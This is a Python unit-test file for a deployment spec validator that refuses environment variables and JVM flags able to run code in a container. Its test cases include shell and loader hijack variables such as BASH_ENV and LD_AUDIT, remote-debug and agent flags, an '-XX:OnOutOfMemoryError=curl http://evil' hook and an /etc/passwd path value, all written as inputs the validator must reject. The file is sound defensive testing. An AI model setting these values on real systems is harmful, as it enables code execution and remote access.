"""Issue 28: what a spec can make the trusted image execute is an allow-list. Every variable a
shell, the C library, the JVM or an entrypoint interprets is refused by name (as a value or a
secret), and the JVM variables take only the flags operators tune."""

from __future__ import annotations

import pytest

from chalicelib.spec.parse import parse_spec
from tests.unit.test_spec import VALID, errors_of

SHELL = (
    "is interpreted by bash, which runs the product's entrypoint: bash would run or look up "
    "commands of the spec's choosing; not allowed in a spec"
)
LOADER = "loads code into the product's process (JVM or dynamic loader); not allowed in a spec"
C_LIBRARY = (
    "is read by the C library of every program in the product's container as where to load code "
    "or files from; not allowed in a spec"
)
ENTRYPOINT = (
    "tells the product's entrypoint where the program it starts lives; only the variables of the "
    "image's config contract (docker/*/config-contract.yaml) may be set"
)
RUNS = "makes the JVM run code of the spec's choosing; not allowed"


def _with_ei_environment(entries: str) -> str:
    return VALID.replace("APIM_HOST: apim.internal}", f"APIM_HOST: apim.internal, {entries}}}")


def _problems(text: str) -> list[str]:
    """The problems without the file position (tested elsewhere)."""
    return [e.split(": ", 1)[1] for e in errors_of(text)]


@pytest.mark.parametrize(
    ("variable", "reason"),
    [
        ("BASH_ENV", SHELL), ("ENV", SHELL), ("PROMPT_COMMAND", SHELL), ("PS4", SHELL),
        ("SHELLOPTS", SHELL), ("BASHOPTS", SHELL), ("PATH", SHELL), ("IFS", SHELL),
        ("BASH_XTRACEFD", SHELL), ("HOME", SHELL),
        ("LD_AUDIT", LOADER), ("CLASSPATH", LOADER), ("JAVACMD", LOADER),
        ("JAVA_HOME", LOADER), ("JDK_JAVA_OPTIONS", LOADER),
        ("GCONV_PATH", C_LIBRARY), ("GLIBC_TUNABLES", C_LIBRARY), ("MALLOC_CHECK_", C_LIBRARY),
        ("WORKING_DIRECTORY", ENTRYPOINT), ("WSO2_SERVER_HOME", ENTRYPOINT),
        ("CARBON_HOME", ENTRYPOINT), ("BERTH_DEBUG", ENTRYPOINT),
    ],
)  # fmt: skip
def test_variables_something_in_the_image_interprets_are_refused(variable, reason):
    text = _with_ei_environment(f"'{variable}': x")
    assert _problems(text) == [f"services.ei.environment.{variable}: {reason}"]


def test_the_same_names_are_refused_as_secrets():
    text = VALID.replace(
        "secrets: {APIM_ADMIN_PASSWORD:",
        'secrets: {BASH_ENV: "arn:aws:ssm:us-east-1:123456789012:parameter/wso2/x", '
        "APIM_ADMIN_PASSWORD:",
    )
    assert _problems(text) == [f"services.ei.secrets.BASH_ENV: {SHELL}"]


def test_jvm_flags_cannot_hide_in_a_secret():
    text = VALID.replace(
        "secrets: {APIM_ADMIN_PASSWORD:",
        'secrets: {JAVA_OPTS: "arn:aws:ssm:us-east-1:123456789012:parameter/wso2/x", '
        "APIM_ADMIN_PASSWORD:",
    )
    assert _problems(text) == [
        "services.ei.secrets.JAVA_OPTS: JAVA_OPTS carries JVM flags, which Berth checks flag by "
        "flag: give it under environment, not as a secret whose value Berth cannot see"
    ]


@pytest.mark.parametrize(
    ("flags", "named"),
    [
        ("-Dcom.sun.management.jmxremote.port=9999 -Dcom.sun.management.jmxremote.authenticate"
         "=false", "-Dcom.sun.management"),
        ("-Xmx1g -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005", "-agentlib"),
        ("-Xrunjdwp:transport=dt_socket", "-Xrunjdwp"),
        ("-XX:OnOutOfMemoryError=curl http://evil", "-XX:OnOutOfMemoryError"),
        ("-XX:+StartAttachListener", "-XX:+StartAttachListener"),
        ("-XX:+EnableDynamicAgentLoading", "-XX:+EnableDynamicAgentLoading"),
        ("-Djava.rmi.server.useCodebaseOnly=false", "-Djava.rmi"),
        ("-Xbootclasspath/a:/tmp/x.jar", "-Xbootclasspath"),
        ("--add-opens=java.base/java.lang=ALL-UNNAMED", "--add-opens"),
    ],
)  # fmt: skip
def test_jvm_flags_that_run_code_are_named(flags, named):
    text = _with_ei_environment(f"JAVA_OPTS: '{flags}'")
    assert _problems(text) == [f"services.ei.environment.JAVA_OPTS: {named} {RUNS}"]


@pytest.mark.parametrize(
    ("flags", "reason"),
    [
        ("-Dsetup", "-Dsetup in JAVA_OPTS: -Dsetup runs WSO2's database scripts against the "
         "datasource at start; Berth's schema task does that once per environment (schemaInit in "
         "the spec); not allowed"),
        ("-DosgiConsole=1234", "-DosgiConsole=1234 in JAVA_OPTS: -DosgiConsole opens the OSGi "
         "console, a shell into the running product; not allowed"),
        ("-Xlog:gc:file=/tmp/gc.log", "-Xlog:gc:file=/tmp/gc.log in JAVA_OPTS: -Xlog may only "
         "write to stdout or stderr, where ECS collects the container's logs; not allowed"),
    ],
)  # fmt: skip
def test_known_flags_off_the_list_say_why(flags, reason):
    assert _problems(_with_ei_environment(f"JAVA_OPTS: '{flags}'")) == [
        f"services.ei.environment.JAVA_OPTS: {reason}"
    ]


def test_an_unknown_flag_is_refused_with_the_list_and_where_settings_go():
    (problem,) = _problems(_with_ei_environment("JAVA_OPTS: '-Xmx1g -XX:+SomeNewAgentThing'"))
    assert problem.startswith(
        "services.ei.environment.JAVA_OPTS: -XX:+SomeNewAgentThing in JAVA_OPTS is not on the "
        "list of JVM flags a spec may set (heap and stack sizes (-Xms, -Xmx, -Xss, -Xmn), -XX: GC"
    )
    assert problem.endswith(
        "); product settings go in deployment.toml through the image's config contract"
    )
    assert "-Duser.timezone" in problem


def test_numeric_options_take_numbers_not_paths():
    (problem,) = _problems(_with_ei_environment("JVM_MEM_OPTS: '-XX:MaxRAM=/etc/passwd'"))
    assert problem.startswith(
        "services.ei.environment.JVM_MEM_OPTS: -XX:MaxRAM=/etc/passwd in JVM_MEM_OPTS is not on"
    )


def test_what_operators_set_is_accepted():
    flags = (
        "-Xms2048m -Xmx2048m -Xss512k -XX:+UseG1GC -XX:MaxGCPauseMillis=200 "
        "-XX:MaxRAMPercentage=75.0 -XX:+ExitOnOutOfMemoryError -Xlog:gc*:stdout:time "
        "-Duser.timezone=UTC -Dsun.net.inetaddr.ttl=30 -Djava.net.preferIPv4Stack=true"
    )
    spec = parse_spec(_with_ei_environment(f"JAVA_OPTS: '{flags}'").encode(), "s.yaml")
    assert spec.services["ei"].environment["JAVA_OPTS"] == flags


def test_contract_variables_with_reserved_prefixes_stay_allowed():
    # WSO2_ENCRYPTION_KEY and BERTH_KEYSTORE_B64 are the images' own contract variables.
    spec = parse_spec(VALID.encode(), "s.yaml")
    assert "WSO2_ENCRYPTION_KEY" in spec.services["apim"].secrets


def test_sidecars_are_held_to_the_same_list():
    text = VALID.replace(
        "    dependsOn: [ei]\n",
        "    dependsOn: [ei]\n    containers:\n      tail:\n"
        "        image: busybox:1.36@sha256:" + "a" * 64 + "\n"
        "        environment: {BASH_ENV: /tmp/x}\n",
    )
    expected = SHELL.replace("product's", "tail's")
    assert f"services.apim.containers.tail.environment.BASH_ENV: {expected}" in _problems(text)
